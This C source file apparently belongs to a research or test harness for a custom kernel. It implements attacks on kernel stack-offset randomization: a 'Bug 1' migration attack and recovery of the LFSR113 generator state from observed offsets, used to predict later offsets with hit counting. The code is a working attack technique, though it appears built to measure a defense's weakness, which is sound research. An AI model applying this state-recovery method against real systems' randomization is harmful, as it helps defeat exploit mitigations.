/* SPDX-License-Identifier: MIT */
/*
 * user/common/kstack_attack.c - the Bug 1 migration attack and LFSR113 state
 * recovery (see kstack_attack.h).
 */
#include "user/common/kstack_attack.h"

#include "lib/lfsr113_solve.h"
#include "lib/user/ulib.h"
#include "user/common/kstack_probe.h"

void kstack_migration_attack(int trials, struct kstack_migration_result *r)
{
    r->hits = r->clean = r->attempts = 0;
    while (r->clean < trials && r->attempts < 10 * trials) {
        struct kstack_trial t;
        r->attempts++;
        bool predicted = kstack_migration_trial(&t);
        r->clean += t.clean;
        r->hits += t.clean && predicted;
    }
}

static struct lfsr113_solver solver;

/* Observe until full rank plus KSTACK_LFSR_CHECK_DRAWS; *now is the
 * generator after the last observed draw (the best fit, even if it does not
 * fit). */
static bool observe_once(struct lfsr113 *now, struct kstack_lfsr_result *r)
{
    lfsr113_solver_init(&solver);
    unsigned extra = 0, needed = 0;
    while (extra < KSTACK_LFSR_CHECK_DRAWS) {
        long off = kstack_offset_now();
        if (off < 0 || !lfsr113_solver_add(&solver, (uint32_t)off))
            return !(r->probe_failed = true);
        if (solver.rank == LFSR113_STATE_BITS && needed == 0)
            needed = solver.draws;
        else if (needed)
            extra++;
    }
    r->needed = needed;
    r->contradictions = solver.inconsistent;
    lfsr113_solver_state(&solver, now);
    for (unsigned n = 0; n < solver.draws; n++)
        lfsr113_next(now);
    return solver.inconsistent == 0;
}

/* Up to KSTACK_LFSR_MAX_SOLVES windows, until one fits. */
static void observe(struct lfsr113 *now, struct kstack_lfsr_result *r)
{
    do {
        r->solves++;
        r->fits = observe_once(now, r);
    } while (!r->fits && !r->probe_failed && r->solves < KSTACK_LFSR_MAX_SOLVES);
}

void kstack_lfsr_attack(int predictions, struct kstack_lfsr_result *r)
{
    struct lfsr113 g;
    memset(r, 0, sizeof(*r));
    r->predictions = predictions;
    observe(&g, r);
    unsigned misses_in_a_row = 0, resyncs = 0;
    for (int i = 0; i < predictions && !r->probe_failed; i++) {
        long predicted = (long)(lfsr113_next(&g) & KSTACK_OFFSET_MASK);
        bool hit = kstack_offset_now() == predicted;
        r->hits += hit;
        misses_in_a_row = hit ? 0 : misses_in_a_row + 1;
        if (misses_in_a_row == 2 && resyncs < KSTACK_LFSR_MAX_RESYNCS) {
            resyncs++;
            observe(&g, r);
        }
    }
}
